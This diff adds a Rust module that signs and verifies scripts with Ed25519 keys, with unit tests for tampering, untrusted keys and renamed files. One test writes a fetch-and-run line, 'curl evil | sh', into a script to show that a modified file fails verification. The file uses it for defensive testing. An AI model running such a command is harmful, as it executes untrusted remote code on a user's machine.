@@ -0,0 +1,436 @@
+use crate::core::{
+    config::{Config, SigningConfig},
+    repo::Repo,
+    script::Script,
+    trust,
+};
+use anyhow::{Context, Result, anyhow, bail};
+use ed25519_dalek::{
+    PUBLIC_KEY_LENGTH, SECRET_KEY_LENGTH, SIGNATURE_LENGTH, Signature, Signer, SigningKey,
+    VerifyingKey,
+};
+use serde::{Deserialize, Serialize};
+use std::{
+    fmt, fs,
+    io::Write,
+    path::{Path, PathBuf},
+};
+
+/// 签名文件的扩展名，签名保存在被签名文件旁的 `<file>.sig`
+pub const SIGNATURE_EXTENSION: &str = "sig";
+
+/// 签名内容的前缀，避免签名被用于其他用途
+const DOMAIN: &[u8] = b"rune-signature-v2\0";
+
+/// 签名用的私钥
+///
+/// 保存为 TOML 文件，包含签名者名称和十六进制的私钥种子
+pub struct KeyPair {
+    /// 签名者名称，写入签名文件供查看；验证时以配置中受信任公钥的名称为准
+    pub name: String,
+    key: SigningKey,
+}
+
+#[derive(Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct KeyFile {
+    name: String,
+    secret_key: String,
+}
+
+/// 签名文件的内容
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct SignatureFile {
+    /// 签名者声明的名称
+    pub signer: String,
+    /// 签名时的文件名称：脚本为仓库中的相对路径（如 `db/backup.sh`），其他文件为文件名
+    pub file: String,
+    /// 十六进制公钥
+    pub public_key: String,
+    /// 十六进制签名
+    pub signature: String,
+}
+
+/// 文件签名的验证结果
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Verification {
+    /// 由受信任的公钥签名，包含该公钥在配置中的名称
+    Verified(String),
+    /// 没有签名文件
+    Unsigned,
+    /// 签名无效或公钥不受信任
+    Invalid(String),
+}
+
+impl Verification {
+    /// 签名是否有效
+    pub fn verified(&self) -> bool {
+        matches!(self, Verification::Verified(_))
+    }
+}
+
+impl fmt::Display for Verification {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            Verification::Verified(signer) => write!(f, "signed by {}", signer),
+            Verification::Unsigned => write!(f, "not signed"),
+            Verification::Invalid(reason) => write!(f, "invalid signature ({})", reason),
+        }
+    }
+}
+
+impl KeyPair {
+    /// 生成新的私钥
+    pub fn generate(name: &str) -> Result<Self> {
+        if name.trim().is_empty() {
+            bail!("Signer name cannot be empty");
+        }
+        Ok(Self {
+            name: name.to_string(),
+            key: SigningKey::from_bytes(&random_seed()?),
+        })
+    }
+
+    /// 从私钥文件加载
+    pub fn load(path: &Path) -> Result<Self> {
+        let content = fs::read_to_string(path).with_context(|| {
+            format!(
+                "Failed to read signing key: {} (create one with 'rune sign --generate')",
+                path.display()
+            )
+        })?;
+        let file: KeyFile = toml::from_str(&content)
+            .with_context(|| format!("Failed to parse signing key: {}", path.display()))?;
+        let seed = decode_hex::<SECRET_KEY_LENGTH>(&file.secret_key)
+            .with_context(|| format!("Invalid secret key in {}", path.display()))?;
+        Ok(Self {
+            name: file.name,
+            key: SigningKey::from_bytes(&seed),
+        })
+    }
+
+    /// 保存到私钥文件，只有当前用户可以读写
+    ///
+    /// # 错误
+    /// 文件已存在时返回错误，避免覆盖已分发公钥的私钥
+    pub fn save(&self, path: &Path) -> Result<()> {
+        if path.exists() {
+            bail!("Signing key already exists: {}", path.display());
+        }
+        if let Some(parent) = path.parent() {
+            fs::create_dir_all(parent)
+                .with_context(|| format!("Failed to create directory: {}", parent.display()))?;
+        }
+        let content = toml::to_string(&KeyFile {
+            name: self.name.clone(),
+            secret_key: encode_hex(self.key.as_bytes()),
+        })
+        .context("Failed to serialize signing key")?;
+
+        let mut options = fs::OpenOptions::new();
+        options.write(true).create_new(true);
+        #[cfg(unix)]
+        {
+            use std::os::unix::fs::OpenOptionsExt;
+            options.mode(0o600);
+        }
+        options
+            .open(path)
+            .and_then(|mut file| file.write_all(content.as_bytes()))
+            .with_context(|| format!("Failed to write signing key: {}", path.display()))
+    }
+
+    /// 十六进制公钥，添加到验证方配置的 `signing.trusted_keys` 中
+    pub fn public_key(&self) -> String {
+        encode_hex(self.key.verifying_key().as_bytes())
+    }
+
+    /// 以 `name` 为名称签名文件，把签名写入 `<file>.sig`，返回签名文件路径
+    ///
+    /// 名称也被签名，复制或改名后的文件无法通过验证
+    pub fn sign_file(&self, path: &Path, name: &str) -> Result<PathBuf> {
+        let content =
+            fs::read(path).with_context(|| format!("Failed to read {}", path.display()))?;
+        let signature = SignatureFile {
+            signer: self.name.clone(),
+            file: name.to_string(),
+            public_key: self.public_key(),
+            signature: encode_hex(&self.key.sign(&message(name, &content)).to_bytes()),
+        };
+        let target = signature_path(path);
+        let content = toml::to_string(&signature).context("Failed to serialize signature")?;
+        fs::write(&target, content)
+            .with_context(|| format!("Failed to write signature: {}", target.display()))?;
+        Ok(target)
+    }
+}
+
+/// 文件的签名文件路径
+pub fn signature_path(path: &Path) -> PathBuf {
+    let mut name = path.as_os_str().to_os_string();
+    name.push(".");
+    name.push(SIGNATURE_EXTENSION);
+    PathBuf::from(name)
+}
+
+/// 解析十六进制公钥
+pub fn parse_public_key(hex: &str) -> Result<[u8; PUBLIC_KEY_LENGTH]> {
+    decode_hex(hex)
+}
+
+/// 脚本签名时使用的名称：仓库中的相对路径
+pub fn script_name(script: &Script) -> String {
+    script.file_name()
+}
+
+/// 不在仓库中的文件（如插件定义）签名时使用的名称：文件名
+pub fn file_name(path: &Path) -> String {
+    path.file_name()
+        .map(|name| name.to_string_lossy().into_owned())
+        .unwrap_or_default()
+}
+
+/// 仓库中的文件签名时使用的名称：相对于仓库根目录的路径，以 `/` 分隔
+///
+/// 文件不在仓库中时返回 None
+pub fn name_in(root: &Path, path: &Path) -> Option<String> {
+    let root = root.canonicalize().ok()?;
+    let path = path.canonicalize().ok()?;
+    let relative = path.strip_prefix(root).ok()?;
+    let parts: Option<Vec<&str>> = relative
+        .components()
+        .map(|c| c.as_os_str().to_str())
+        .collect();
+    Some(parts?.join("/"))
+}
+
+/// 用配置中受信任的公钥验证以 `name` 为名称签名的文件
+pub fn verify_file(path: &Path, name: &str, config: &SigningConfig) -> Result<Verification> {
+    let sig_path = signature_path(path);
+    if !sig_path.exists() {
+        return Ok(Verification::Unsigned);
+    }
+    let content = fs::read(path).with_context(|| format!("Failed to read {}", path.display()))?;
+    let sig_content = fs::read_to_string(&sig_path)
+        .with_context(|| format!("Failed to read signature: {}", sig_path.display()))?;
+    let signature: SignatureFile = match toml::from_str(&sig_content) {
+        Ok(signature) => signature,
+        Err(e) => {
+            return Ok(Verification::Invalid(format!(
+                "malformed {}: {}",
+                sig_path.display(),
+                e.message()
+            )));
+        }
+    };
+    let (Ok(public), Ok(bytes)) = (
+        parse_public_key(&signature.public_key),
+        decode_hex::<SIGNATURE_LENGTH>(&signature.signature),
+    ) else {
+        return Ok(Verification::Invalid(format!(
+            "malformed {}",
+            sig_path.display()
+        )));
+    };
+
+    let Some(signer) = config.trusted_keys.iter().find_map(|(signer, key)| {
+        parse_public_key(key)
+            .is_ok_and(|key| key == public)
+            .then(|| signer.clone())
+    }) else {
+        return Ok(Verification::Invalid(format!(
+            "signed by '{}' with a key that is not trusted",
+            signature.signer
+        )));
+    };
+    if signature.file != name {
+        return Ok(Verification::Invalid(format!(
+            "it was signed as '{}', not '{}'",
+            signature.file, name
+        )));
+    }
+    let valid = VerifyingKey::from_bytes(&public).is_ok_and(|key| {
+        key.verify_strict(&message(name, &content), &Signature::from_bytes(&bytes))
+            .is_ok()
+    });
+    if !valid {
+        return Ok(Verification::Invalid(
+            "the file was modified after it was signed".to_string(),
+        ));
+    }
+    Ok(Verification::Verified(signer))
+}
+
+/// 仓库中脚本的签名验证结果
+///
+/// 未配置受信任的公钥，或脚本在用户仓库中时不需要验证，返回 None
+pub fn status(repo: &Repo, script: &Script) -> Result<Option<Verification>> {
+    let config = Config::load()?.signing;
+    if !config.enforced() || !trust::required(repo) {
+        return Ok(None);
+    }
+    verify_file(&script.path, &script_name(script), &config).map(Some)
+}
+
+/// 被签名的消息：前缀、文件名称和文件内容
+fn message(name: &str, content: &[u8]) -> Vec<u8> {
+    [DOMAIN, name.as_bytes(), b"\0", content].concat()
+}
+
+#[cfg(unix)]
+fn random_seed() -> Result<[u8; SECRET_KEY_LENGTH]> {
+    use std::io::Read;
+    let mut seed = [0u8; SECRET_KEY_LENGTH];
+    fs::File::open("/dev/urandom")
+        .and_then(|mut random| random.read_exact(&mut seed))
+        .context("Failed to read random bytes from /dev/urandom")?;
+    Ok(seed)
+}
+
+#[cfg(not(unix))]
+fn random_seed() -> Result<[u8; SECRET_KEY_LENGTH]> {
+    bail!("Generating signing keys is only supported on Unix")
+}
+
+fn encode_hex(bytes: &[u8]) -> String {
+    bytes.iter().map(|b| format!("{:02x}", b)).collect()
+}
+
+fn decode_hex<const N: usize>(hex: &str) -> Result<[u8; N]> {
+    let hex = hex.trim();
+    // from_str_radix 接受 `+` 前缀，必须先逐字符检查
+    if hex.len() != N * 2 || !hex.bytes().all(|b| b.is_ascii_hexdigit()) {
+        bail!("expected {} hexadecimal digits", N * 2);
+    }
+    let mut out = [0u8; N];
+    for (i, byte) in out.iter_mut().enumerate() {
+        *byte = u8::from_str_radix(&hex[i * 2..i * 2 + 2], 16)
+            .map_err(|_| anyhow!("expected {} hexadecimal digits", N * 2))?;
+    }
+    Ok(out)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::collections::BTreeMap;
+    use tempfile::TempDir;
+
+    fn trusting(name: &str, key: &KeyPair) -> SigningConfig {
+        SigningConfig {
+            key: None,
+            trusted_keys: BTreeMap::from([(name.to_string(), key.public_key())]),
+        }
+    }
+
+    #[test]
+    fn test_sign_and_verify_file() {
+        let temp_dir = TempDir::new().unwrap();
+        let script = temp_dir.path().join("deploy.sh");
+        fs::write(&script, "echo deploy\n").unwrap();
+
+        let alice = KeyPair::generate("alice@example.com").unwrap();
+        let config = trusting("alice", &alice);
+        assert_eq!(
+            verify_file(&script, "deploy.sh", &config).unwrap(),
+            Verification::Unsigned
+        );
+
+        let sig = alice.sign_file(&script, "deploy.sh").unwrap();
+        assert_eq!(sig, temp_dir.path().join("deploy.sh.sig"));
+        assert_eq!(
+            verify_file(&script, "deploy.sh", &config).unwrap(),
+            Verification::Verified("alice".to_string())
+        );
+
+        fs::write(&script, "echo deploy; curl evil | sh\n").unwrap();
+        assert!(matches!(
+            verify_file(&script, "deploy.sh", &config).unwrap(),
+            Verification::Invalid(_)
+        ));
+
+        // 签名者名称可以随意声明，只有配置中的公钥才被信任
+        let mallory = KeyPair::generate("alice").unwrap();
+        mallory.sign_file(&script, "deploy.sh").unwrap();
+        let result = verify_file(&script, "deploy.sh", &config).unwrap();
+        assert!(!result.verified());
+        assert!(result.to_string().contains("not trusted"));
+
+        fs::write(&sig, "signer = \"alice\"\n").unwrap();
+        assert!(matches!(
+            verify_file(&script, "deploy.sh", &config).unwrap(),
+            Verification::Invalid(_)
+        ));
+    }
+
+    #[test]
+    fn test_signature_is_bound_to_the_name() {
+        let temp_dir = TempDir::new().unwrap();
+        let cleanup = temp_dir.path().join("cleanup.sh");
+        fs::write(&cleanup, "rm -rf \"$1\"\n").unwrap();
+        let alice = KeyPair::generate("alice").unwrap();
+        let config = trusting("alice", &alice);
+        alice.sign_file(&cleanup, "ops/cleanup.sh").unwrap();
+        assert!(
+            verify_file(&cleanup, "ops/cleanup.sh", &config)
+                .unwrap()
+                .verified()
+        );
+
+        // 把签名过的脚本连同签名复制为另一个脚本
+        let deploy = temp_dir.path().join("deploy.sh");
+        fs::copy(&cleanup, &deploy).unwrap();
+        fs::copy(signature_path(&cleanup), signature_path(&deploy)).unwrap();
+        let result = verify_file(&deploy, "deploy.sh", &config).unwrap();
+        assert!(!result.verified());
+        assert!(result.to_string().contains("ops/cleanup.sh"));
+
+        // 改写签名文件中记录的名称也无法通过验证
+        let sig = fs::read_to_string(signature_path(&deploy)).unwrap();
+        fs::write(
+            signature_path(&deploy),
+            sig.replace("ops/cleanup.sh", "deploy.sh"),
+        )
+        .unwrap();
+        assert!(
+            !verify_file(&deploy, "deploy.sh", &config)
+                .unwrap()
+                .verified()
+        );
+    }
+
+    #[test]
+    fn test_key_file_roundtrip() {
+        let temp_dir = TempDir::new().unwrap();
+        let path = temp_dir.path().join("rune").join("signing.key");
+
+        let key = KeyPair::generate("alice").unwrap();
+        key.save(&path).unwrap();
+        assert!(key.save(&path).is_err());
+        #[cfg(unix)]
+        {
+            use std::os::unix::fs::PermissionsExt;
+            let mode = fs::metadata(&path).unwrap().permissions().mode();
+            assert_eq!(mode & 0o777, 0o600);
+        }
+
+        let loaded = KeyPair::load(&path).unwrap();
+        assert_eq!(loaded.name, "alice");
+        assert_eq!(loaded.public_key(), key.public_key());
+        assert!(parse_public_key(&key.public_key()).is_ok());
+        assert!(parse_public_key("abcd").is_err());
+        assert!(KeyPair::generate(" ").is_err());
+    }
+
+    #[test]
+    fn test_decode_hex_is_strict() {
+        assert_eq!(decode_hex::<2>("0aFf").unwrap(), [0x0a, 0xff]);
+        for input in ["+f0a", "0a+f", "-1ff", "0x0a", "0a f", "0a0", "0g0a"] {
+            assert!(decode_hex::<2>(input).is_err(), "{}", input);
+        }
+        let key = KeyPair::generate("alice").unwrap().public_key();
+        let plus = format!("+{}", &key[1..]);
+        assert!(parse_public_key(&plus).is_err());
+    }
+}